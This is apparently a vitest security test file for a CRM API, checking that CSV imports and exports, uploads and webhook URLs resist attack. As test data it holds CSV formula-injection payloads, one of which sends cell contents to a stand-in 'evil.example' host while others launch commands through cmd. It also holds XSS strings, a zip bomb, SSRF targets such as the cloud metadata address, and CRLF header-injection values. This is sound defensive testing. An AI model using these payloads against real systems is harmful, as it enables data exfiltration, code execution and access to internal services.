/** Attacks by files that come in and go out, and by addresses that we are asked to call. */
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, expect, test } from "vitest";
import { openTwoOrgs, type TestOrg, type TwoOrgs } from "#lib/testing/two-orgs.ts";

let t: TwoOrgs;
beforeAll(async () => {
  t = await openTwoOrgs();
});
afterAll(() => t.close());

const upload = (
  org: TestOrg,
  body: string | Uint8Array,
  file = "companies.csv",
  type = "text/csv",
  object = "companies",
) => {
  const path = `/imports?object=${object}&file_name=${encodeURIComponent(file)}`;
  return t.call(org.key, "POST", path, body as string, { "content-type": type });
};

/** An import with the mapping that was guessed, run to its end. */
async function run(org: TestOrg, body: string, file?: string): Promise<string> {
  const made = await upload(org, body, file);
  expect(made.status, JSON.stringify(made.body)).toBe(201);
  const { id } = made.body as { id: string };
  expect((await t.call(org.key, "POST", `/imports/${id}/start`)).status).toBe(202);
  const bearer = { authorization: `Bearer ${process.env.RAPPORT_INTERNAL_SECRET}` };
  for (let turn = 0; turn < 50; turn++) {
    await t.call(null, "POST", "/../internal/jobs/run", undefined, bearer);
    const { state } = (await t.call(org.key, "GET", `/imports/${id}`)).body as { state: string };
    if (["succeeded", "failed"].includes(state)) break;
  }
  return id;
}

const report = (org: TestOrg, id: string) =>
  t.call(org.key, "GET", `/imports/${id}/report.csv?outcome=created`);

test("25 · `=HYPERLINK`, `+`, `-`, `@`, tab, CR in an export: neutralised", async () => {
  const cells = [
    '=HYPERLINK("https://evil.example?"&A1)',
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "＝1+1",
  ];
  const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
  const csv = cells.map((cell, i) => `Firm ${i},${quoted(cell)}`).join("\n");
  const id = await run(t.acme, `Company,City\n${csv}\n`);
  const { status, headers, body } = await report(t.acme, id);
  expect(status).toBe(200);
  expect(headers.get("content-disposition")).toMatch(/^attachment; filename="[\w.-]+"$/);
  const lines = String(body)
    .replace(/^\ufeff/, "")
    .split("\r\n");
  expect(lines.length).toBeGreaterThan(cells.length);
  for (let i = 0; i < cells.length; i++) {
    const line = lines.find((text) => text.includes(`Firm ${i}`))!;
    const [, city = ""] = line.split(`Firm ${i},`);
    expect(city, cells[i]).toMatch(/^"?'/);
  }
  // No cell of any line begins with a sign that a spreadsheet would calculate.
  expect(String(body).replace(/^\ufeff/, "")).not.toMatch(/(?:^|[,\n])"?[=+\-@\t]/);
});

test("26 · import with formulas, BOM, wrong quotes: row errors, nothing lost", async () => {
  const csv = [
    "\ufeffCompany,City,Website",
    '=cmd|"/C calc"!A0,Chur,https://a.example',
    '"Never closed,Bern,https://b.example',
    "Plain,Basel,javascript:alert(1)",
    "Too,many,cells,in,this,row",
    ",Nobody,https://c.example",
    "Last,Genève,https://d.example",
  ].join("\n");
  const made = await upload(t.globex, csv);
  expect(made.status, JSON.stringify(made.body)).toBe(201);
  expect(made.body.columns[0].name).toBe("Company");
  const id = await run(t.globex, csv, "again.csv");
  const done = (await t.call(t.globex.key, "GET", `/imports/${id}`)).body;
  expect(done.state).toBe("succeeded");
  const { created_count, updated_count, unchanged_count, refused_count, row_count } = done;
  expect(created_count + updated_count + unchanged_count + refused_count).toBe(row_count);
  const { data } = (await t.call(t.globex.key, "GET", `/imports/${id}/rows?limit=100`)).body as {
    data: { cells: string[]; outcome: string; reason: string | null; notes: string[] }[];
  };
  expect(data).toHaveLength(row_count);
  // Each value of the file is in a row, and each row that was refused says why.
  const kept = data.flatMap(({ cells }) => cells).join("\n");
  for (const word of ["calc", "Never closed", "Basel", "Nobody", "Genève", "d.example"])
    expect(kept).toContain(word);
  for (const row of data.filter(({ outcome }) => outcome === "refused"))
    expect(row.reason).toMatch(/.{10,}/);
  const names = (await t.call(t.globex.key, "GET", "/companies?limit=100")).body.data as {
    name: string;
    website: string | null;
  }[];
  expect(names.some(({ website }) => website?.startsWith("javascript:"))).toBe(false);
});

test("28 · HTML or SVG upload: attachment, nosniff, no script", async () => {
  const html = "Company,City\n<script>alert(1)</script>,<svg onload=alert(1)>\n";
  for (const type of ["text/html", "image/svg+xml", "application/xhtml+xml", "text/xml"])
    expect((await upload(t.acme, html, "x.html", type)).status, type).toBe(415);
  const id = await run(t.acme, html, 'page.html"><script>.svg');
  const { status, headers, body } = await report(t.acme, id);
  expect(status).toBe(200);
  expect(body).toContain("<script>");
  expect(Object.fromEntries(headers)).toMatchObject({
    "content-type": "text/csv; charset=utf-8",
    "content-disposition": expect.stringMatching(/^attachment; filename="[\w.-]+\.csv"$/),
    "x-content-type-options": "nosniff",
    "content-security-policy": expect.stringContaining("default-src 'none'"),
    "cross-origin-resource-policy": "same-origin",
  });
  // Any JSON answer that holds it is no page either.
  const rows = await t.call(t.acme.key, "GET", `/imports/${id}/rows`);
  expect(rows.headers.get("content-type")).toContain("application/json");
  expect(rows.headers.get("x-content-type-options")).toBe("nosniff");
  expect(rows.headers.get("content-security-policy")).toContain("sandbox");
});

test("29 · zip bomb, pixel flood: refused", async () => {
  const bomb = gzipSync(Buffer.alloc(20_000_000, "Company,City\n"));
  const zip = Buffer.concat([Buffer.from("PK\u0003\u0004\u0014\u0000", "latin1"), bomb]);
  const png = Buffer.concat([
    Buffer.from("\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR\uffff\uffff", "latin1"),
    Buffer.alloc(1000),
  ]);
  for (const type of ["application/zip", "application/gzip", "image/png", "image/jpeg"])
    expect((await bytes(bomb, type)).status, type).toBe(415);
  // Under the name of a table: nothing is unpacked, so a bomb is only as large as it is, and it holds no table.
  for (const content of [bomb, zip, png])
    for (const type of ["text/csv", "application/octet-stream", "application/vnd.ms-excel"])
      expect((await bytes(content, type)).status, type).toBe(422);
  // A body that says it is compressed is read as it is.
  const encoded = await bytes(bomb, "text/csv", { "content-encoding": "gzip" });
  expect(encoded.status).toBe(422);
});

async function bytes(
  body: Uint8Array,
  type: string,
  more: Record<string, string> = {},
): Promise<Response> {
  const { createApi } = await import("#api");
  return createApi().request("http://rapport.test/api/v1/imports?object=companies", {
    method: "POST",
    headers: { authorization: `Bearer ${t.acme.key}`, "content-type": type, ...more },
    body: Buffer.from(body),
  });
}

const saveWebhook = (url: string) =>
  t.call(t.acme.key, "POST", "/webhooks", { url, event_types: ["*"] });

test("35 · webhook URL 169.254.169.254, `[::ffff:127.0.0.1]`, 2130706433, 0x7f.1, NAT64, 6to4, CGNAT: 422 when saved", async () => {
  const hook = await saveWebhook("https://hooks.rapport-partner.com/in");
  expect(hook.status, JSON.stringify(hook.body)).toBe(201);
  for (const host of [
    "169.254.169.254",
    "[::ffff:127.0.0.1]",
    "2130706433",
    "0x7f.1",
    "017700000001",
    "127.1",
    "[64:ff9b::7f00:1]",
    "[2002:7f00:1::]",
    "100.64.0.1",
    "[fd00:ec2::254]",
    "localhost",
    "metadata.google.internal",
  ]) {
    const url = `https://${host}/hook`;
    for (const answer of [
      await saveWebhook(url),
      await t.call(t.acme.key, "PATCH", `/webhooks/${hook.body.id}`, { url }),
    ]) {
      expect(answer.status, url).toBe(422);
      expect(answer.body.errors).toContainEqual(expect.objectContaining({ pointer: "/url" }));
    }
  }
});

test("37 · URL with userinfo, port 22, CRLF in a header: 422", async () => {
  for (const url of [
    "https://user:pass@hooks.rapport-partner.com/",
    "https://user@hooks.rapport-partner.com/",
    "https://hooks.rapport-partner.com:22/",
    "https://hooks.rapport-partner.com:5432/",
    "https://hooks.rapport-partner.com/\r\nX-Evil: 1",
    "https://hooks.rapport-partner.com/ HTTP/1.1\r\nHost: evil",
    "https://hooks.rapport-partner.com/\u0000",
  ])
    expect((await saveWebhook(url)).status, url).toBe(422);
  // An owner's header cannot begin another one.
  const named = await t.call(t.acme.key, "POST", "/webhooks", {
    url: "https://hooks.rapport-partner.com/",
    event_types: ["*"],
    headers: { "X-Evil": "1\r\nHost: evil" },
  });
  expect(named.status).toBe(422);
  expect(named.body.errors).toContainEqual(expect.objectContaining({ pointer: "/headers/X-Evil" }));
});
